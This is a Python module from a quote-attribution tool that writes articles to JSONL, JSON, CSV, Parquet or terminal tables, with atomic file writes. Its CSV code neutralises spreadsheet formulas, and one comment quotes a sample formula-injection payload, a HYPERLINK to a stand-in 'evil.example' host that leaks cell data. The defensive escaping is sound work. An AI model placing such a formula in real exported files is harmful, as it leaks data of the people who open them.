"""Writing articles out: JSONL, JSON, CSV, Parquet, and a table for people.

Files are written atomically: into a temporary file beside the target, renamed
over it only when everything was written. An interrupted run leaves the old
file (or none), never half of a new one. Only a regular file (or a missing path)
is renamed over: a symlink is followed and its target replaced, a device or a
named pipe is written as a stream, and a folder is refused.
"""

from __future__ import annotations

import contextlib
import csv
import errno
import json
import os
import re
import stat
import sys
import tempfile
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import IO, Any, Literal

from saywho.models import Article

Format = Literal["jsonl", "json", "csv", "parquet", "table"]
FORMATS: tuple[str, ...] = ("jsonl", "json", "csv", "parquet", "table")

#: One row per attribution in CSV and Parquet.
ROW_FIELDS = (
    "input",
    "title",
    "published",
    "publisher",
    "type",
    "act",
    "speaker",
    "speaker_kind",
    "speaker_descriptors",
    "cue",
    "source",
    "content",
    "content_start",
    "content_end",
    "when",
    "when_date",
    "confidence",
    "headline",
)


#: The format each output file extension stands for.
EXTENSIONS: dict[str, Format] = {"jsonl": "jsonl", "ndjson": "jsonl", "json": "json", "csv": "csv", "parquet": "parquet", "txt": "table"}


def format_for_path(path: str | None) -> Format | None:
    if path is None:
        return None
    return EXTENSIONS.get(Path(path).suffix.lower().lstrip("."))


def attribution_rows(article: Article) -> Iterator[dict[str, Any]]:
    for a in article.attributions:
        yield {
            "input": article.input,
            "title": article.title,
            "published": article.published,
            "publisher": article.publisher,
            "type": a.type,
            "act": a.act,
            "speaker": a.speaker.name if a.speaker else None,
            "speaker_kind": a.speaker.kind if a.speaker else None,
            "speaker_descriptors": "; ".join(a.speaker.descriptors) if a.speaker else None,
            "cue": a.cue.text if a.cue else None,
            "source": a.source.text if a.source else None,
            "content": a.content.text,
            "content_start": a.content.start,
            "content_end": a.content.end,
            "when": a.when.text if a.when else None,
            "when_date": a.when.date if a.when else None,
            "confidence": a.confidence,
            "headline": a.headline,
        }


@contextlib.contextmanager
def atomic_file(path: str, mode: str = "w", *, parents: bool = False) -> Iterator[IO[Any]]:
    """A file object whose content replaces ``path`` only if the block completes.

    A missing parent folder is an error naming it (``parents=True`` creates it);
    devices and named pipes (``/dev/stdout``, a FIFO) are written in place, since
    renaming over them would replace the node; a symlink's target is replaced and
    the link kept. Errors are ``OSError`` with a message meant for the user.
    """
    target, is_stream = output_target(path, parents=parents)
    text = "b" not in mode
    if is_stream:
        # Appending: a pipe or device ignores it, and /dev/stdout redirected to a file (even
        # with >>) must not be truncated by opening it again.
        stream_mode = mode.replace("w", "a")
        with open(target, stream_mode, encoding="utf-8" if text else None, newline="" if text else None) as stream:
            yield stream
        return
    fd, temp = tempfile.mkstemp(prefix=f".{target.name}.", suffix=".part", dir=target.parent)
    try:
        with os.fdopen(fd, mode, encoding="utf-8" if text else None, newline="" if text else None) as handle:
            yield handle
            handle.flush()
            os.fsync(handle.fileno())
        os.chmod(temp, 0o666 & ~_umask())  # mkstemp makes 0600; a normal file respects the umask
        os.replace(temp, target)
    except BaseException:
        with contextlib.suppress(FileNotFoundError):
            os.unlink(temp)
        raise


def output_target(path: str, *, parents: bool = False) -> tuple[Path, bool]:
    """Where writing ``path`` really goes, and whether it is a stream (device, pipe, socket,
    one of this process's open files such as ``/dev/stdout``) rather than a file to replace.
    Raises ``OSError`` naming the problem: a folder, or a parent folder that is missing or is
    a file."""
    try:
        mode = os.stat(path).st_mode  # follows links, /proc's magic ones too
    except FileNotFoundError:
        # Missing, or a dangling link: create the file the link points to (the link stays).
        target = Path(os.path.realpath(path))
        _check_parent(target.parent, parents)
        return target, False
    except NotADirectoryError:
        _check_parent(Path(os.path.realpath(path)).parent, parents)  # names the file that stands where a folder should
        raise
    if stat.S_ISDIR(mode):
        raise IsADirectoryError(errno.EISDIR, f"{path} is a folder; give a file name", path)
    if not stat.S_ISREG(mode) or _open_file_of_this_process(path):
        return Path(path), True
    return Path(os.path.realpath(path)), False  # a symlink's target is replaced, the link kept


def _open_file_of_this_process(path: str) -> bool:
    """``/dev/stdout``, ``/dev/fd/1``, ``/proc/self/fd/1``: a file this process already has
    open (a shell redirect, maybe ``>>``), written where it stands, never replaced."""
    current = os.path.abspath(path)
    for _ in range(40):  # the kernel's own limit on links followed
        current = os.path.join(os.path.realpath(os.path.dirname(current)), os.path.basename(current))
        if current.startswith("/proc/"):
            return True
        if not os.path.islink(current):
            return False
        current = os.path.normpath(os.path.join(os.path.dirname(current), os.readlink(current)))
    return False


def _check_parent(folder: Path, create: bool) -> None:
    if folder.is_dir():
        return
    blocker = next((p for p in (folder, *folder.parents) if p.exists()), None)
    if blocker is not None and not blocker.is_dir():
        raise NotADirectoryError(errno.ENOTDIR, f"{blocker} is a file, not a folder", str(folder))
    if not create:
        raise FileNotFoundError(errno.ENOENT, f"folder {folder} does not exist (create it, or pass --parents)", str(folder))
    folder.mkdir(parents=True, exist_ok=True)


def _umask() -> int:
    mask = os.umask(0)
    os.umask(mask)
    return mask


#: First characters that make a spreadsheet cell a formula (OWASP's list): a cell like
#: ``=HYPERLINK("http://evil.example/?"&A1)`` in an article would run when the CSV is opened.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: Any) -> Any:
    """A CSV cell that a spreadsheet shows as text: a string starting like a formula gets
    a leading single quote, as OWASP recommends. Numbers and other cells are unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


#: C0 and C1 control characters except tab and newline: an escape sequence in an article's
#: title could retitle, recolour or reprogram the terminal of whoever reads the output.
_CONTROL_CHARACTERS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def printable(text: str) -> str:
    """``text`` without the control characters a terminal would act on (tab and newline stay)."""
    return _CONTROL_CHARACTERS.sub("", text)


def for_rich(text: Any) -> str:
    """Untrusted text to put inside a rich markup string: brackets like ``[/r/politics]``
    or ``[link=...]`` escaped so they are never tags, control characters removed. (rich's
    escape shows a backslash before a lone ``[`` as ``[``; where exact text matters, hand
    rich a ``Text`` instead, as the tables do.)"""
    from rich.markup import escape

    return escape(printable(str(text)))


class Writer:
    """Streams articles to one destination in one format.

    CSV cells that a spreadsheet would run as formulas are neutralised (see
    ``spreadsheet_safe``) unless ``raw_csv`` is set, for programs that read the CSV.
    """

    def __init__(self, handle: IO[str] | None, fmt: Format, path: str | None = None, console_width: int | None = None,
                 *, raw_csv: bool = False, parents: bool = False):
        self.handle = handle
        self.format = fmt
        self.path = path
        self.count = 0
        self.attributions = 0
        self._csv: csv.DictWriter | None = None
        self._rows: list[dict[str, Any]] = []
        self._width = console_width
        self._raw_csv = raw_csv
        self._parents = parents

    def write(self, article: Article) -> None:
        if self.format == "jsonl":
            assert self.handle is not None
            self.handle.write(json.dumps(article.to_dict(), ensure_ascii=False) + "\n")
        elif self.format == "json":
            assert self.handle is not None
            self.handle.write(("[\n" if self.count == 0 else ",\n") + json.dumps(article.to_dict(), ensure_ascii=False, indent=1))
        elif self.format == "csv":
            assert self.handle is not None
            if self._csv is None:
                # csv's default CRLF (RFC 4180, as search and the API write): with "\n" as the line end,
                # csv leaves a cell holding a lone "\r" unquoted, and readers split the row there.
                self._csv = csv.DictWriter(self.handle, fieldnames=ROW_FIELDS)
                self._csv.writeheader()
            for row in attribution_rows(article):
                self._csv.writerow(row if self._raw_csv else {k: spreadsheet_safe(v) for k, v in row.items()})
        elif self.format == "parquet":
            self._rows.extend(attribution_rows(article))
        elif self.format == "table":
            assert self.handle is not None
            render_table(article, self.handle, width=self._width)
        self.count += 1
        self.attributions += len(article.attributions)
        if self.handle is not None and self.format in ("jsonl", "csv"):
            self.handle.flush()

    def close(self) -> None:
        if self.format == "json" and self.handle is not None:
            self.handle.write("[]\n" if self.count == 0 else "\n]\n")
        if self.format == "parquet":
            import pyarrow as pa
            import pyarrow.parquet as pq

            assert self.path is not None, "parquet needs -o FILE"
            table = pa.Table.from_pylist(self._rows, schema=_parquet_schema()) if self._rows else _parquet_schema().empty_table()
            with atomic_file(self.path, "wb", parents=self._parents) as handle:
                pq.write_table(table, handle)


def _parquet_schema():
    import pyarrow as pa

    types = {"content_start": pa.int64(), "content_end": pa.int64(), "confidence": pa.float64(), "headline": pa.bool_()}
    return pa.schema([(name, types.get(name, pa.string())) for name in ROW_FIELDS])


def render_table(article: Article, handle: IO[str], width: int | None = None) -> None:
    """The readable view: one row per attribution (speaker, type, cue, content).

    Article text is handed to rich as ``Text``, never as markup, so a title like
    ``[/r/politics]`` or ``[link=…]`` prints as written; control characters are removed.
    """
    from rich.console import Console
    from rich.table import Table
    from rich.text import Text

    console = Console(file=handle, width=width or 120, emoji=False, highlight=False,
                      force_terminal=handle in (sys.stdout, sys.stderr) and handle.isatty())
    title = Text.assemble(printable(article.title or article.input), "  ", (f"({printable(article.input)})", "dim"))
    table = Table(title=title, title_justify="left", show_lines=False, expand=True)
    table.add_column("speaker", ratio=2, overflow="fold")
    table.add_column("type", ratio=1)
    table.add_column("cue", ratio=1, overflow="fold")
    table.add_column("content", ratio=6, overflow="fold")
    for a in article.attributions:
        speaker = Text(printable(a.speaker.name)) if a.speaker else Text("-", "dim")
        if a.speaker and a.speaker.kind not in ("person",):
            speaker.append(f" ({printable(a.speaker.kind)})", "dim")
        kind = Text(printable(a.type))
        if a.act == "belief":
            kind.append(" (belief)", "dim")
        # No cue: a headline quote, or a statement that continues the one before it.
        cue = Text(printable(a.cue.text)) if a.cue else Text("headline" if a.headline else "continued", "dim")
        table.add_row(speaker, kind, cue, Text(printable(a.content.text)))
    console.print(table)
    if not article.attributions:
        console.print("[dim]no attributions found[/dim]")


def write_all(articles: Iterable[Article], fmt: Format, path: str | None = None, *, parents: bool = False,
              raw_csv: bool = False) -> int:
    """Write every article to ``path`` (atomically) or stdout; return how many."""
    return write_articles(articles, fmt, path, parents=parents, raw_csv=raw_csv).count


def write_articles(articles: Iterable[Article], fmt: Format, path: str | None = None, *, parents: bool = False,
                   raw_csv: bool = False) -> Writer:
    """As ``write_all``, returning the finished writer (its article and attribution counts)."""
    if path is None or fmt == "parquet":
        writer = Writer(sys.stdout if path is None else None, fmt, path, raw_csv=raw_csv, parents=parents)
        for article in articles:
            writer.write(article)
        writer.close()
        return writer
    with atomic_file(path, parents=parents) as handle:
        writer = Writer(handle, fmt, path, raw_csv=raw_csv, parents=parents)
        for article in articles:
            writer.write(article)
        writer.close()
    return writer


__all__ = ["EXTENSIONS", "FORMATS", "Writer", "atomic_file", "attribution_rows", "for_rich", "format_for_path", "output_target",
           "printable", "render_table", "spreadsheet_safe", "write_all", "write_articles"]
